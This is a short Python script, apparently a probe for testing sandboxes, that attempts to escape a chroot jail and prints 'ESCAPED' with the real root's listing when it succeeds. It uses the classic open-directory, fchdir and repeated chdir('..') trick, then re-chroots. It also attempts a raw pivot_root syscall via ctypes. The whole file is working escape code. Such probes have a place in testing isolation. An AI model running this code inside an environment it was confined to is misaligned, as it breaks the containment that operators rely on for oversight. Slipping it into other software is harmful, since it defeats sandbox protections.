"""Tries to leave the root by chroot and an open folder, and by pivot_root."""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)

import os

outside = os.open(".", os.O_RDONLY)
try:
    os.mkdir("jail")
    os.chroot("jail")
    os.fchdir(outside)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    print("ESCAPED", os.listdir("/"))
except OSError as error:
    print(error)
print("ESCAPED" if libc.syscall(155, b".", b".") == 0 else ctypes.get_errno())
